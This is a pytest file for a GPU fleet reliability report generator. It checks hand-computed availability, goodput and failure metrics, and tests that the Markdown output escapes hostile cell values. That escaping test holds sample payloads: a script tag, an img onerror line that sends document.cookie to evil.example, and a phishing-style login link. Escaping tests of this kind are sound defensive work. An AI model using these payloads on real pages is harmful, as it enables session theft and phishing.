"""`gpufleet report` on the hand-made fleet: the numbers in md, json and html are the hand-worked ones."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from pipelines.errors import DatabaseMissingError, GpufleetError
from pipelines.report import build_report, to_html, to_json, to_markdown
from pipelines.store import connect, open_store
from pipelines.weeks import parse_week
from testkit.cli import run_gpufleet

ROOT = Path(__file__).resolve().parent.parent
W48 = parse_week("2026-W48")


@pytest.fixture
def report(fixture_db):
    con = connect(fixture_db, read_only=True)
    yield build_report(con, W48)
    con.close()


MARKDOWN_LINES = [
    # availability 485/498 = 97.39 %, W47 499/504 = 99.01 % -> -1.62 pp
    "| Node availability | 97.39 % | 99.01 % | -1.62 pp |",
    # 2 of 4 eligible vs 2 of 2
    "| Job success rate | 50.00 % | 100.00 % | -50.00 pp |",
    # 240/296 = 81.08 %
    "| Job success rate (GPU-hour weighted) | 81.08 % | 100.00 % | -18.92 pp |",
    # 266/396 = 67.17 % vs 96/120 = 80 %
    "| Goodput | 67.17 % | 80.00 % | -12.83 pp |",
    # 64800/135000 = 48 % vs 43200/111600 = 38.71 %
    "| ETTR | 48.00 % | 38.71 % | +9.29 pp |",
    # 485/3 = 161.7 h vs 499/2 = 249.5 h
    "| MTBF | 161.7 h | 249.5 h | -87.8 h |",
    # (4 + 4) / 2 (the episode open at the horizon left out) vs (3 + 5) / 2
    "| MTTR | 4.0 h | 4.0 h | +0.0 h |",
    # 6 per 16.5 GPU-days = 363.6; W47 1 per 5 = 200
    "| Interruptions per 1,000 GPU-days | 363.6 | 200.0 | +163.6 |",
    "| Software failures | 3 | 0 | +3 |",
    # stack: capacity 2640 + 1344; productive 178 + 88
    "| capacity | 3,984.0 | 100.00 % |",
    "| productive | 266.0 | 6.68 % |",
    # allocated but idle (telemetry): 16 + 8 = 24 of 3984 = 0.60 %, part of allocated (396)
    "| allocated but idle | 24.0 | 0.60 % |",
    # Fleet failures only (j4 cancelled, j5 preempted and timed out are shown apart): 4 attempts.
    # j3: three 1-h 8-GPU attempts, exit 1: 3 of 4
    "| software | failed (exit 1) | 3 | 1 | 24.0 | 75.00 % | 75.00 % |",
    # j2 a0: 16 GPUs x 4 h, XID 79 on n2 two minutes before the end; 1 of 4
    "| hardware | XID 79 | 1 | 1 | 64.0 | 25.00 % | 100.00 % |",
    # not fleet failures: j4 cancelled 4 h x 1 GPU; j5 preempted / timed out 2 h x 8 GPUs each
    "| user | cancelled | 1 | 1 | 4.0 |",
    "| infrastructure | preempted | 1 | 1 | 16.0 |",
    # n2: (2 unknown + 4 unavailable) h x 8 GPUs; availability 162/168
    "| n2 | c1 | NVIDIA H100 80GB HBM3 | 48.0 | 32.0 | 16.0 | 96.43 % | 1 | 79 |",
    # the finding that ended j2 a0: its goodput lost next to its impact (W47's throttling is not listed)
    "| n2 | c1 | 3 | xid 79 | critical | reboot | 2026-11-24 11:58 | 2026-11-24 18:00 | 64.0 | 0.5 |",
    # what the ladder recommended this week, though the finding closed before the week's end
    "| n2 | c1 | reboot | 2026-11-24 11:58 | 2026-11-24 18:00 | critical | xid 79 on gpu 3 (critical) -&gt; reboot |",
    # escapes: W48 j2 a0 placed on n2 while its ecc_sbe_rate finding was open (0 of 1 escaped);
    # W47 j0 a0 on n1 escaped (1 of 1)
    "| Escape rate (fleet failures no check saw coming) | 0.00 % | 100.00 % | -100.00 pp |",
    "| Jobs placed on flagged nodes | 1 | 0 | +1 |",
    # finding 07:00, failure 12:00: 5 h ahead; W47's only failure escaped: no lead time
    "| Median lead time of caught failures | 5.0 h | n/a | n/a |",
    # per detector: caught 1, escaped 0, placed 1, lead 5 h; no step timings in the fixture: 0 GPU-h
    "| ecc\\_sbe\\_rate | 1 | 0 | 1 | 5.0 h | 0.0 |",  # Markdown-escaped: renders as ecc_sbe_rate
]


@pytest.mark.parametrize("line", MARKDOWN_LINES)
def test_markdown_shows_the_hand_worked_numbers(report, line):
    assert line in to_markdown(report)


def test_markdown_title_names_the_week_and_its_days(report):
    assert to_markdown(report).startswith(
        "# Weekly reliability report 2026-W48 (Mon 2026-11-23 to Sun 2026-11-29, UTC), all clusters"
    )


def test_markdown_lists_worst_nodes_first(report):
    text = to_markdown(report)
    assert text.index("| n2 |") < text.index("| n1 |") < text.index("| n3 |")


def test_json_carries_raw_values(report):
    payload = json.loads(to_json(report))
    assert (payload["week"], payload["week_start"], payload["week_end"]) == (
        "2026-W48",
        "2026-11-23",
        "2026-11-30",
    )
    summary = {row["metric"]: row for row in payload["summary"]}
    assert summary["node_availability"]["value"] == pytest.approx(485 / 498)
    assert summary["node_availability"]["delta"] == pytest.approx(485 / 498 - 499 / 504)
    assert summary["goodput"]["value"] == pytest.approx(266 / 396)
    assert summary["mtbf_h"]["previous"] == pytest.approx(249.5)
    stack = {row["level"]: row["gpu_h"] for row in payload["goodput_stack"]}
    assert (
        stack["capacity"]
        == stack["unavailable"] + stack["unknown"] + stack["idle"] + stack["allocated"]
    )
    assert stack["allocated"] == sum(
        stack[k] for k in ("init", "checkpoint", "wasted", "other", "productive")
    )
    assert [n["node"] for n in payload["top_nodes"]] == ["n2", "n1", "n3"]
    assert [n["down_gpu_h"] for n in payload["top_nodes"]] == [48.0, 32.0, 24.0]
    assert sum(f["attempts"] for f in payload["failures"]) == 4
    assert sum(f["attempts"] for f in payload["not_failures"]) == 3


def test_html_is_self_contained_and_has_the_numbers(report):
    page = to_html(report)
    assert "<td class=n>97.39 %</td>" in page and "<td>XID 79</td>" in page
    # plotly.js inlined, nothing fetched from the network
    assert "plotly.js v" in page
    assert not re.search(r"<script[^>]+src=", page)
    assert not re.search(r"<link[^>]+href=", page)
    # the dashboard's waterfall and Pareto (pipelines/charts.py); the waterfall carries the
    # stack's GPU-hours
    assert "Where the GPU-hours went (goodput stack)" in page and '"3,984"' in page
    assert "Failed attempts by cause (Pareto)" in page


def test_cluster_scope(fixture_db):
    con = connect(fixture_db, read_only=True)
    c2 = build_report(con, W48, cluster="c2")
    con.close()
    assert c2.top_nodes["node"].to_list() == ["n3"]
    # c2's fleet failures: j3 x3 software; j5 preempted and timed out: shown apart
    assert c2.failures["cause"].to_list() == ["failed (exit 1)"]
    assert sorted(c2.not_failures["cause"].to_list()) == ["preempted", "timeout"]
    goodput = c2.summary.filter(c2.summary["metric"] == "goodput")["value"][0]
    assert goodput == pytest.approx(88 / 152)


def test_a_week_without_data_names_the_weeks_that_have_some(fixture_db):
    con = connect(fixture_db, read_only=True)
    with pytest.raises(GpufleetError, match="No data for week 2026-W50") as err:
        build_report(con, parse_week("2026-W50"))
    con.close()
    assert "2026-W47, 2026-W48" in err.value.hint


def test_an_uncomputed_database_says_to_run_compute(tmp_path):
    open_store(tmp_path / "empty.duckdb").close()
    con = connect(tmp_path / "empty.duckdb", read_only=True)
    with pytest.raises(DatabaseMissingError, match="no `weekly_summary` table") as err:
        build_report(con, W48)
    con.close()
    assert "gpufleet compute" in err.value.hint


def test_cli_writes_md_json_and_html(fixture_db, tmp_path):
    md = run_gpufleet(tmp_path, "--db", str(fixture_db), "report", "--week", "2026-W48")
    assert md.returncode == 0, md.stderr
    assert "| Goodput | 67.17 % | 80.00 % | -12.83 pp |" in md.stdout
    js = run_gpufleet(
        tmp_path,
        "--db",
        str(fixture_db),
        "report",
        "--week",
        "2026-W48",
        "--format",
        "json",
        "--cluster",
        "c1",
    )
    assert js.returncode == 0, js.stderr
    summary = {r["metric"]: r["value"] for r in json.loads(js.stdout)["summary"]}
    assert summary["node_availability"] == pytest.approx(320 / 330)
    page = run_gpufleet(
        tmp_path, "--db", str(fixture_db), "report", "--week", "2026-W48", "--format", "html"
    )
    assert page.returncode == 0, page.stderr
    assert "<td class=n>67.17 %</td>" in (tmp_path / "report-2026-W48.html").read_text()


def test_cli_bad_week_is_a_clean_error(fixture_db, tmp_path):
    result = run_gpufleet(tmp_path, "--db", str(fixture_db), "report", "--week", "48")
    assert result.returncode == 2
    assert "not an ISO week" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("command", ["report", "export", "remediation"])
def test_every_option_is_documented(command):
    import typer

    from pipelines.cli import app

    docs = (ROOT / "README.md").read_text()
    click_command = typer.main.get_command(app).commands[command]
    options = [opt for p in click_command.params for opt in p.opts if opt.startswith("--")]
    assert options
    for option in options:
        assert f"{option} " in docs, f"`gpufleet {command} {option}` is not in README.md"


def test_a_past_week_shows_what_was_recommended_then(fixture_db):
    con = connect(fixture_db, read_only=True)
    w47 = build_report(con, parse_week("2026-W47"))
    con.close()
    assert w47.remediation.select("node", "step").rows() == [("n3", "cordon")]
    assert w47.findings.select("node", "kind", "impact_gpu_h").rows() == [
        ("n3", "throttling", 12.0)
    ]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">",
    "[Session expired, log in again](http://evil.example/login)",
    "![pixel](http://evil.example/p.png)",
    "http://evil.example/bare www.evil.example",
    "a|b",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_escapes_html_and_link_syntax_in_every_cell(report, name):
    import dataclasses

    import polars as pl

    hostile = dataclasses.replace(
        report,
        cluster=name,
        top_nodes=report.top_nodes.with_columns(
            pl.lit(name).alias("node"), pl.lit(name).alias("gpu_model")
        ),
        failures=report.failures.with_columns(pl.lit(name).alias("cause")),
    )
    text = to_markdown(hostile)
    assert "<script" not in text and "<img" not in text
    assert not re.search(r"(?<!\\)\]\(", text), "a live Markdown link or image"
    assert not re.search(r"(?<!\\)!(?<!\\)\[", text)
    assert "http://" not in text and "www.evil" not in text, "a bare URL GFM would autolink"
    # A `|` in a name is escaped: every row of the nodes table keeps the header's column count.
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("| Node |"))
    # the table's own lines: from its header to the first line that is not a table row
    end = next((i for i in range(start, len(lines)) if not lines[i].startswith("|")), len(lines))
    table = lines[start:end]
    columns = {len(re.findall(r"(?<!\\)\|", line)) for line in table}
    assert len(columns) == 1


@pytest.mark.parametrize("doc", ["README.md", "docs/dashboard.md"])
def test_examples_name_a_cluster_and_job_the_demo_has(doc):
    # `gpufleet demo` simulates the clusters of pipelines/simulator/model.py and job ids
    # 700000, 700001, ... (the 64-node week has more than a thousand jobs).
    import re

    from pipelines.simulator.model import CLUSTERS

    text = (ROOT / doc).read_text()
    clusters = set(re.findall(r"(?:cluster=|--cluster )([\w-]+)", text)) - {"C", "NAME"}
    jobs = set(re.findall(r"job=([\w/.-]+)", text))
    assert clusters and clusters <= {c[0] for c in CLUSTERS}, clusters
    assert jobs and all(re.fullmatch(r"7\d{5}", j) for j in jobs), jobs
